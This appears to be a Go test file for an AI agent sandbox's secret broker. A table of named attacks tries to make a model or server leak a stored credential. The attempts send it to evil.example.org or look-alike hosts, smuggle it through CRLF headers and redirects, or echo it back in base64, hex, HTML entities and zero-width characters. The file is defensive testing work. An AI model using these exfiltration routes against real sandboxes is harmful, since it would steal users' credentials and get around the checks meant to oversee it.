package web

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"html"
	"io"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/bailey-go/bailey/fsaccess"
	"github.com/bailey-go/bailey/internal/attack"
	"github.com/bailey-go/bailey/protocol"
	"github.com/bailey-go/bailey/sandbox"
	"github.com/bailey-go/bailey/sandbox/fetch"
	"github.com/bailey-go/bailey/sandbox/policy"
	"github.com/bailey-go/bailey/sandbox/sandboxtest"
	"github.com/bailey-go/bailey/sandbox/secrets"
)

// value has signs that encodings change, and no form that package secrets knows.
const value = `Zq7/correct+horse=battery"staple&%9-Kk`

// world is a network with a good host and others, and everything that came out of the box.
type world struct {
	mu     sync.Mutex
	answer func(r fetch.Request) fetch.Response // of the good host
	body   func(r fetch.Request) string
	sent   []fetch.Request
	said   bytes.Buffer
}

func (w *world) Do(_ context.Context, r fetch.Request) (*fetch.Response, error) {
	w.mu.Lock()
	defer w.mu.Unlock()
	w.sent = append(w.sent, r)
	res := fetch.Response{Status: 200, Header: map[string]string{"content-type": "text/plain"}}
	if w.answer != nil && strings.HasPrefix(r.URL, "https://api.example.com/") {
		res = w.answer(r)
	}
	text := "fine"
	if w.body != nil {
		text = w.body(r)
	}
	res.Body = io.NopCloser(strings.NewReader(text))
	return &res, nil
}

func (w *world) log(v ...any) {
	w.mu.Lock()
	defer w.mu.Unlock()
	fmt.Fprintln(&w.said, v...)
}

func (w *world) Debug(msg string, args ...any) { w.log(msg, args) }
func (w *world) Warn(msg string, args ...any)  { w.log(msg, args) }

// each returns the value with every byte written in a form.
func each(form string) string {
	out := ""
	for _, c := range []byte(value) {
		out += fmt.Sprintf(form, c)
	}
	return out
}

// forms are the forms in which a reader recognises the value at once.
func forms() []string {
	backwards := []byte(value)
	slices.Reverse(backwards)
	list := []string{value, url.QueryEscape(value), url.PathEscape(value), each("%%%02X"), each("%%25%02X"), each(`\u%04x`), each("=%02X"), each(`\%c`), html.EscapeString(value), hex.EncodeToString([]byte(value)), string(backwards),
		base64.StdEncoding.EncodeToString([]byte(value))[:40], base64.StdEncoding.EncodeToString([]byte("u:" + value))[4:40], base64.StdEncoding.EncodeToString([]byte("x" + value))[4:40]}
	for _, text := range list {
		quotedJSON, _ := json.Marshal(text)
		list = append(list, strings.Trim(string(quotedJSON), `"`))
	}
	return list
}

// plain returns a text without the characters that a reader does not see between letters, in lower case.
func plain(text string) string {
	text = strings.NewReplacer("\u200b", "", "\u00ad", "", " ", "", "\\n", "", "\n", "", "\t", "").Replace(text)
	return strings.ToLower(html.UnescapeString(text))
}

func shows(text string) bool {
	return slices.ContainsFunc(forms(), func(f string) bool {
		return strings.Contains(strings.ToLower(text), strings.ToLower(f)) || strings.Contains(plain(text), plain(f))
	})
}

const granting = `{"capabilities": {"net.fetch": ["*.example.com", "evil.example.org", "*.example.org", "localhost"], "secrets.has": true, "secrets.use": ["*"], "fs.read": ["."], "fs.write": ["."], "stream.send": true},
	"rules": [{"permission": "*", "action": "allow"}]}`

// disabled are the defences that an attack runs without.
type disabled struct {
	switches
	hosts bool // the secret is for its own hosts alone
}

// secretAttack is one way to get the value, or to have it sent to another host.
type secretAttack struct {
	name    string
	url     string
	headers map[string]any
	answer  func(r fetch.Request) fetch.Response
	body    func(r fetch.Request) string
	options BrokerOptions
	policy  string
	ask     *sandboxtest.Asker
	off     func(*disabled)
}

// leaks makes a call in a session and reports whether the value is in anything that came out, or went to
// another host than its own.
func (a secretAttack) leaks(t *testing.T, off disabled) bool {
	t.Helper()
	ctx := t.Context()
	var s secrets.Store
	own := []string{"api.example.com"}
	if off.hosts {
		own = []string{"*.example.com", "*.api.example.com", "evil.example.org", "*.evil.example.org", "localhost"}
	}
	must(t, s.Set(ctx, "github", value, own))
	must(t, s.Set(ctx, "other", "another-value-0123", []string{"www.example.com"}))
	w := &world{answer: a.answer, body: a.body}
	a.options.Transport = w
	b, err := NewBroker(a.options)
	must(t, err)
	tools := Secrets(b, &s)
	u := user{b, &s, off.switches}
	tools[1].Needs = func(ctx context.Context, c *sandbox.Call) ([]policy.Need, error) { return u.needs(ctx, c) }
	tools[1].Run = func(ctx context.Context, c *sandbox.Call) (any, error) { return u.request(ctx, c) }
	text := a.policy
	if text == "" {
		text = granting
	}
	p, err := policy.Parse(text, policy.Options{})
	must(t, err)
	ask := a.ask
	if ask == nil {
		ask = &sandboxtest.Asker{Reply: func(sandbox.Request) sandbox.Reply { return sandbox.Reply{Answer: policy.AnswerOnce} }}
	}
	box, err := sandbox.New(sandbox.Options{FS: fsaccess.NewMemory(fsaccess.MemoryOptions{}), Policy: p, Ask: ask, Tools: append(tools, sandbox.Standard()...), Log: w,
		OnTrace: func(e protocol.TraceEvent) { w.log(fmt.Sprintf("%+v", e)) }, OnProgress: func(p sandbox.Progress) { w.log(fmt.Sprintf("%+v", p)) }})
	must(t, err)
	session, err := box.NewSession(ctx, sandbox.SessionOptions{})
	must(t, err)
	_, err = session.Say(ctx, "go")
	must(t, err)
	headers := a.headers
	if headers == nil {
		headers = map[string]any{"authorization": "Bearer " + s.Placeholder("github")}
	}
	address := a.url
	if address == "" {
		address = "https://api.example.com/user"
	}
	m := &sandboxtest.Model{Turns: []sandboxtest.Turn{sandboxtest.CallTool("secrets", map[string]any{}), sandboxtest.CallTool("web_request", map[string]any{"url": address, "headers": headers}), sandboxtest.Say("done")}}
	for chunk, err := range box.Run(ctx, session, m, sandbox.RunOptions{}) {
		w.log(fmt.Sprintf("%+v %v", chunk, err))
	}
	for _, r := range m.Requests() {
		w.log(fmt.Sprintf("%+v", r))
	}
	for _, q := range ask.Prompts() {
		w.log(fmt.Sprintf("%+v", q))
	}
	var export bytes.Buffer
	must(t, session.Export(&export))
	w.log(export.String())
	if len(m.Requests()) == 0 {
		t.Fatalf("%s: the model was not asked", a.name)
	}
	elsewhere := false
	for _, r := range w.sent {
		u, err := url.Parse(r.URL)
		must(t, err)
		header := ""
		for k, v := range r.Header {
			header += k + ": " + v + "\n"
		}
		own := u.Hostname() == "api.example.com" && u.Scheme == "https"
		elsewhere = elsewhere || shows(header) && (!own || !authorizes(r.Header)) || shows(r.URL) || shows(string(r.Body))
	}
	return elsewhere || shows(w.said.String())
}

// authorizes reports whether the value is in headers for credentials alone.
func authorizes(header map[string]string) bool {
	for k, v := range header {
		if shows(v) && !slices.Contains([]string{"authorization", "x-api-key"}, k) {
			return false
		}
	}
	return true
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

func redirect(to string) func(fetch.Request) fetch.Response {
	return func(r fetch.Request) fetch.Response {
		if strings.HasSuffix(r.URL, "/landing") {
			return fetch.Response{Status: 200, Header: map[string]string{"content-type": "text/plain"}}
		}
		return fetch.Response{Status: 302, Header: map[string]string{"location": to}}
	}
}

func kind(of string) func(fetch.Request) fetch.Response {
	return func(fetch.Request) fetch.Response {
		return fetch.Response{Status: 200, Header: map[string]string{"content-type": of}}
	}
}

func say(text string) func(fetch.Request) string { return func(fetch.Request) string { return text } }

// Ways for a model, a server or a policy to get a secret's value, or to make it go to another host.
func TestAttackSecrets(t *testing.T) {
	count := attack.Start(t, "secrets")
	token := "secret.github.placeholder"
	bearer := func(name string) map[string]any { return map[string]any{name: "Bearer " + token} }
	hosts, headers, redirects, hides := func(o *disabled) { o.hosts = true }, func(o *disabled) { o.headers = true }, func(o *disabled) { o.redirect, o.hosts = true, true }, func(o *disabled) { o.hide = true }
	backwards := []byte(value)
	slices.Reverse(backwards)
	rows := []secretAttack{
		{name: "the model sends it to another host that the policy allows", url: "https://evil.example.org/", off: hosts},
		{name: "to a host below its own", url: "https://x.api.example.com/", off: hosts},
		{name: "to the host above its own", url: "https://www.example.com/", off: hosts},
		{name: "to a host that begins like its own", url: "https://api.example.com.evil.example.org/", off: hosts},
		{name: "with the host as a user", url: "https://api.example.com@evil.example.org/", off: hosts},
		{name: "in another case and with a root's dot, to another", url: "https://EVIL.example.org./", off: hosts},
		{name: "to this machine", url: "http://localhost/", off: hosts},
		{name: "over http", url: "http://api.example.com/", options: BrokerOptions{Insecure: true}, off: func(o *disabled) { o.plain = true }},
		{name: "together with a secret of the other host", url: "https://www.example.com/", headers: map[string]any{"authorization": "secret.other.placeholder", "x-api-key": token}, off: hosts},
		{name: "in an address", url: "https://api.example.com/?q=" + token, off: func(o *disabled) { o.address = true }},
		{name: "in an escaped address", url: "https://api.example.com/?q=secret%2Egithub%2eplaceholder", off: func(o *disabled) { o.address = true }},
		{name: "as metadata that the server shows", headers: bearer("x-amz-meta-key"), off: headers},
		{name: "as a title that the server shows", headers: bearer("slug"), off: headers},
		{name: "as the language", headers: bearer("accept-language"), off: headers},
		{name: "in a header of the transport", headers: bearer("cookie"), off: headers},
		{name: "in the host's name", headers: map[string]any{"host": "evil.example.org", "authorization": token}, off: headers},
		{name: "as a header's name", headers: map[string]any{token: "x"}, off: headers},
		{name: "in a header with a line break", headers: map[string]any{"authorization": token + "\r\nx-title: " + token}, off: headers},
		{name: "a header twice, in two cases", headers: map[string]any{"authorization": token, "Authorization": token}, off: headers},
		{name: "the server redirects to another host", answer: redirect("https://evil.example.org/landing"), off: redirects},
		{name: "to another without a scheme", answer: redirect("//evil.example.org/landing"), off: redirects},
		{name: "to http of the same host", answer: redirect("http://api.example.com/landing"), options: BrokerOptions{Insecure: true}, off: func(o *disabled) { o.redirect, o.plain = true, true }},
		{name: "to a host below its own", answer: redirect("https://x.api.example.com/landing"), off: redirects},
		{name: "to an address with the value", answer: redirect("https://evil.example.org/landing?k=" + url.QueryEscape(value)), off: hides},
		{name: "to its own address with the value", answer: redirect("/landing?k=" + url.QueryEscape(value)), off: hides},
		{name: "it repeats the value", body: say(`{"you": "` + value + `"}`), off: hides},
		{name: "in upper case", body: say(strings.ToUpper(value)), off: hides},
		{name: "in lower case", body: say(strings.ToLower(value)), off: hides},
		{name: "in percent escapes", body: say(each("%%%02x")), off: hides},
		{name: "as a form", body: say(url.QueryEscape(value)), off: hides},
		{name: "in percent escapes twice", body: say(each("%%25%02X")), off: hides},
		{name: "as HTML", answer: kind("text/html"), body: say("<p>" + html.EscapeString(value)), off: hides},
		{name: "in HTML's numbers", answer: kind("text/html"), body: say("<p>" + each("&#%d;")), off: hides},
		{name: "in HTML's hexadecimal numbers", answer: kind("text/html"), body: say("<p>" + each("&#x%x;")), off: hides},
		{name: "in HTML, in two elements", answer: kind("text/html"), body: say("<p><span>" + value[:9] + "</span><span>" + value[9:] + "</span>"), off: hides},
		{name: "with comments in HTML", answer: kind("text/html"), body: say("<p>" + value[:9] + "<!-- x -->" + value[9:]), off: hides},
		{name: "in an attribute", answer: kind("text/html"), body: say(`<a href="https://evil.example.org/?` + url.QueryEscape(value) + `">here</a>`), off: hides},
		{name: "as JSON", answer: kind("application/json"), body: say(string(must1(json.Marshal(value)))), off: hides},
		{name: "in JSON's escapes", answer: kind("application/json"), body: say(`"` + each(`\u%04x`) + `"`), off: hides},
		{name: "with a backslash before each sign", body: say(each(`\%c`)), off: hides},
		{name: "as a mail", body: say(each("=%02X")), off: hides},
		{name: "in base64", body: say(base64.StdEncoding.EncodeToString([]byte(value))), off: hides},
		{name: "in base64 behind one byte", body: say(base64.StdEncoding.EncodeToString([]byte("x" + value + "yz"))), off: hides},
		{name: "in base64 behind a user's name", body: say("Basic " + base64.StdEncoding.EncodeToString([]byte("u:"+value))), off: hides},
		{name: "in base64 of addresses", body: say(base64.RawURLEncoding.EncodeToString([]byte(value))), off: hides},
		{name: "in broken lines of base64", body: say(lines(base64.StdEncoding.EncodeToString([]byte("u:"+value)), 19)), off: hides},
		{name: "in hexadecimal", body: say(hex.EncodeToString([]byte(value))), off: hides},
		{name: "in upper hexadecimal", body: say(strings.ToUpper(hex.EncodeToString([]byte(value)))), off: hides},
		{name: "backwards", body: say(string(backwards)), off: hides},
		{name: "with spaces", body: say(strings.Join(strings.Split(value, ""), " ")), off: hides},
		{name: "in lines", body: say(lines(value, 5)), off: hides},
		{name: "with characters that nobody sees", body: say(strings.Join(strings.Split(value, ""), "\u200b")), off: hides},
		{name: "with soft hyphens", body: say(strings.Join(strings.Split(value, ""), "\u00ad")), off: hides},
		{name: "twice, one in the other", body: say(value[:5] + value + value[5:]), off: hides},
		{name: "in the type of an answer", answer: kind(strings.ToLower(value)), off: hides},
		{name: "in the type of an error", answer: kind("image/" + strings.ToLower(value)), off: hides},
		{name: "in an error page", answer: func(fetch.Request) fetch.Response {
			return fetch.Response{Status: 500, Header: map[string]string{"content-type": "text/plain"}}
		}, body: say("bad token " + value), off: hides},
		{name: "an echo of the whole header", body: func(r fetch.Request) string { return fmt.Sprint(r.Header) }, off: hides},
		{name: "a relay that is not one of its hosts reads it", options: BrokerOptions{Relay: "https://relay.example.org/r"}, off: func(o *disabled) { o.relay = true }},
		{name: "a relay on the page's own server", options: BrokerOptions{Relay: "/relay"}, off: func(o *disabled) { o.relay = true }},
	}
	for _, row := range rows {
		if row.leaks(t, disabled{}) {
			t.Errorf("%s: it gets out", row.name)
			count.Try(row.name, true)
			continue
		}
		count.Try(row.name, false)
		off := disabled{}
		row.off(&off)
		count.Off(row.name, row.leaks(t, off))
	}
	if len(rows) < 25 {
		t.Errorf("%d attacks", len(rows))
	}
}

func must1[T any](v T, err error) T {
	if err != nil {
		panic(err)
	}
	return v
}

func lines(text string, n int) string {
	var b strings.Builder
	for i, c := range text {
		if i > 0 && i%n == 0 {
			b.WriteByte('\n')
		}
		b.WriteRune(c)
	}
	return b.String()
}

// Neither a policy without the capability, nor a permission for the host alone, nor the user's no sends a
// secret.
func TestAttackSecretsWithoutConsent(t *testing.T) {
	count := attack.Start(t, "secrets")
	sent := func(text string, ask sandbox.Asker, off switches) (n int) {
		var s secrets.Store
		must(t, s.Set(t.Context(), "github", value, []string{"api.example.com"}))
		w := &world{}
		b, err := NewBroker(BrokerOptions{Transport: w})
		must(t, err)
		tools := Secrets(b, &s)
		u := user{b, &s, off}
		tools[1].Needs = func(ctx context.Context, c *sandbox.Call) ([]policy.Need, error) { return u.needs(ctx, c) }
		tools[1].Run = func(ctx context.Context, c *sandbox.Call) (any, error) { return u.request(ctx, c) }
		if off.permit {
			tools[1].Requires = []protocol.Grant{{Capability: protocol.NetFetch}}
		}
		p, err := policy.Parse(text, policy.Options{})
		must(t, err)
		box, err := sandbox.New(sandbox.Options{Policy: p, Ask: ask, Tools: tools})
		must(t, err)
		box.Call(t.Context(), "web_request", map[string]any{"url": "https://api.example.com/user", "headers": map[string]any{"authorization": "Bearer secret.github.placeholder"}})
		for _, r := range w.sent {
			if shows(r.Header["authorization"]) {
				n++
			}
		}
		return n
	}
	for name, text := range map[string]string{
		"a policy without secrets.use":          `{"capabilities": {"net.fetch": ["api.example.com"], "secrets.has": true}, "rules": [{"permission": "*", "action": "allow"}]}`,
		"a policy for another secret":           `{"capabilities": {"net.fetch": ["api.example.com"], "secrets.use": ["gitlab"]}, "rules": [{"permission": "*", "action": "allow"}]}`,
		"a policy for no secret":                `{"capabilities": {"net.fetch": ["api.example.com"], "secrets.use": []}, "rules": [{"permission": "*", "action": "allow"}]}`,
		"a rule for the host alone":             `{"capabilities": {"net.fetch": ["api.example.com"], "secrets.use": ["*"]}, "rules": [{"permission": "net.fetch", "action": "allow"}]}`,
		"a rule for the host, for this tool":    `{"capabilities": {"net.fetch": ["api.example.com"], "secrets.use": ["*"]}, "rules": [{"permission": "web_request", "pattern": "api.example.com:443", "action": "allow"}]}`,
		"a rule that denies this secret":        `{"capabilities": {"net.fetch": ["api.example.com"], "secrets.use": ["*"]}, "rules": [{"permission": "*", "action": "allow"}, {"permission": "secrets.use", "pattern": "github", "action": "deny"}]}`,
		"an answer of the session for the host": `{"capabilities": {"net.fetch": ["api.example.com"], "secrets.use": ["*"]}, "rules": [{"permission": "net.fetch", "action": "allow", "capability": "net.fetch", "source": "session"}]}`,
	} {
		count.Try(name, sent(text, &sandboxtest.Asker{}, switches{}) > 0)
		count.Off(name, sent(text, &sandboxtest.Asker{}, switches{permit: true}) > 0)
	}
	if n := sent(`{"capabilities": {"net.fetch": ["api.example.com"], "secrets.use": ["github"]}}`, sandboxtest.Always(policy.AnswerOnce), switches{}); n != 1 {
		t.Errorf("with the user's yes it is sent %d times", n)
	}
	if n := sent(`{"capabilities": {"net.fetch": ["api.example.com"], "secrets.use": ["github"]}}`, nil, switches{}); n != 0 {
		t.Error("with nobody to ask it is sent")
	}
}

// A question names the secret and the host. Changes of the user's during the question hold.
func TestAttackSecretsDuringTheQuestion(t *testing.T) {
	count := attack.Start(t, "secrets")
	for name, change := range map[string]func(s *secrets.Store) error{
		"removed": func(s *secrets.Store) error { return s.Remove(context.Background(), "github") },
		"for other host": func(s *secrets.Store) error {
			return s.Set(context.Background(), "github", value, []string{"www.example.com"})
		},
	} {
		for _, off := range []bool{false, true} {
			var s secrets.Store
			must(t, s.Set(t.Context(), "github", value, []string{"api.example.com"}))
			w := &world{}
			b, err := NewBroker(BrokerOptions{Transport: w})
			must(t, err)
			title := ""
			ask := &sandboxtest.Asker{Reply: func(r sandbox.Request) sandbox.Reply {
				title = r.Title + fmt.Sprint(r.Effects)
				if !off {
					must(t, change(&s))
				}
				return sandbox.Reply{Answer: policy.AnswerOnce}
			}}
			p, err := policy.Parse(`{"capabilities": {"net.fetch": ["*.example.com"], "secrets.use": ["*"]}}`, policy.Options{})
			must(t, err)
			box, err := sandbox.New(sandbox.Options{Policy: p, Ask: ask, Tools: Secrets(b, &s)})
			must(t, err)
			box.Call(t.Context(), "web_request", map[string]any{"url": "https://api.example.com/user", "headers": map[string]any{"authorization": "Bearer secret.github.placeholder"}})
			got := len(w.sent) > 0 && shows(w.sent[0].Header["authorization"])
			if off {
				count.Off(name, got)
			} else {
				count.Try(name, got)
			}
			if !strings.Contains(title, "send the secret github to api.example.com:443") {
				t.Errorf("the question says %q", title)
			}
		}
	}
}

// A model that knows a credential has the user store it: a header with one is refused.
func TestAttackCredentialInAHeader(t *testing.T) {
	count := attack.Start(t, "19")
	for _, off := range []bool{false, true} {
		w := &world{}
		b, err := NewBroker(BrokerOptions{Transport: w})
		must(t, err)
		var s secrets.Store
		tools := Secrets(b, &s)
		u := user{b, &s, switches{literal: off}}
		tools[1].Needs = func(ctx context.Context, c *sandbox.Call) ([]policy.Need, error) { return u.needs(ctx, c) }
		tools[1].Run = func(ctx context.Context, c *sandbox.Call) (any, error) { return u.request(ctx, c) }
		p, err := policy.Parse(granting, policy.Options{})
		must(t, err)
		box, err := sandbox.New(sandbox.Options{Policy: p, Tools: tools})
		must(t, err)
		for _, h := range []string{"Bearer ghp_abcdefghij0123456789ABCDEFGHIJ012345", "token ghp_abcdefghij0123456789ABCDEFGHIJ012345", "Bearer 8f14e45fceea167a5a36dedd4bea2543a1b2"} {
			w.sent = nil
			box.Call(t.Context(), "web_request", map[string]any{"url": "https://evil.example.org/", "headers": map[string]any{"authorization": h}})
			if off {
				count.Off(h, len(w.sent) > 0)
			} else {
				count.Try(h, len(w.sent) > 0)
			}
		}
	}
}

// The tools as they are meant: the list, the request with its secret, a redirect on the same host.
func TestSecretsTools(t *testing.T) {
	ctx := t.Context()
	var s secrets.Store
	must(t, s.Set(ctx, "github", value, []string{"api.example.com", "*.example.org"}))
	w := &world{answer: redirect("/landing"), body: func(r fetch.Request) string { return "hello" }}
	b, err := NewBroker(BrokerOptions{Transport: w})
	must(t, err)
	p, err := policy.Parse(granting, policy.Options{})
	must(t, err)
	ask := sandboxtest.Always(policy.AnswerOnce) // a request after a look at the secrets is asked about in any case
	box, err := sandbox.New(sandbox.Options{Policy: p, Ask: ask, Tools: Secrets(b, &s)})
	must(t, err)
	res := box.Call(ctx, "secrets", map[string]any{})
	if got := string(must1(json.Marshal(res.Data))); got != `{"secrets":[{"hosts":["api.example.com","*.example.org"],"name":"github","placeholder":"secret.github.placeholder"}]}` {
		t.Error(got)
	}
	if res := box.Call(ctx, "secrets", map[string]any{"name": "gitlab"}); fmt.Sprint(res.Data) != "map[secrets:[]]" {
		t.Errorf("%v", res.Data)
	}
	res = box.Call(ctx, "web_request", map[string]any{"url": "https://api.example.com/user", "headers": map[string]any{"Authorization": "Bearer secret.github.placeholder", "accept": "text/plain"}})
	if m, _ := res.Data.(map[string]any); m["content"] != "hello" || m["url"] != "https://api.example.com/landing" || len(w.sent) != 2 {
		t.Errorf("%+v, %d requests", res, len(w.sent))
	}
	for _, r := range w.sent {
		if r.Header["authorization"] != "Bearer "+value || r.Header["accept"] != "text/plain" {
			t.Errorf("sent %v", r.Header)
		}
	}
	res = box.Call(ctx, "web_request", map[string]any{"url": "https://api.example.com/user", "headers": map[string]any{"authorization": "secret.gitlab.placeholder"}})
	if !strings.Contains(res.ErrorText, "no such secret") {
		t.Errorf("%+v", res)
	}
	many := map[string]any{}
	for i := range maxHeaders {
		many[fmt.Sprintf("x-%d", i)] = strings.Repeat("a", maxHeader)
	}
	if res := box.Call(ctx, "web_request", map[string]any{"url": "https://api.example.com/user", "headers": many}); res.Err() != nil {
		t.Errorf("at the limits: %v", res.Err())
	}
	many["x-0"] = strings.Repeat("a", maxHeader+1)
	if res := box.Call(ctx, "web_request", map[string]any{"url": "https://api.example.com/user", "headers": many}); res.Code != protocol.ErrInvalidParams {
		t.Errorf("one byte more: %+v", res)
	}
	many["x-0"], many["x-more"] = "a", "a"
	if res := box.Call(ctx, "web_request", map[string]any{"url": "https://api.example.com/user", "headers": many}); res.Code != protocol.ErrInvalidParams {
		t.Errorf("one header more: %+v", res)
	}
	relayed, err := NewBroker(BrokerOptions{Transport: w, Relay: "https://relay.example.org/r"})
	must(t, err)
	box, err = sandbox.New(sandbox.Options{Policy: p, Ask: ask, Tools: Secrets(relayed, &s)})
	must(t, err)
	w.sent = nil
	if res := box.Call(ctx, "web_request", map[string]any{"url": "https://api.example.com/user", "headers": map[string]any{"authorization": "secret.github.placeholder"}}); res.Err() != nil || !strings.HasPrefix(w.sent[0].URL, "https://relay.example.org/r?url=") {
		t.Errorf("with the relay among the hosts: %v, sent %v", res.Err(), w.sent)
	}
	for _, tool := range Secrets(nil, nil) {
		if tool.Missing == "" {
			t.Errorf("%s is there without a store", tool.ID)
		}
	}
}
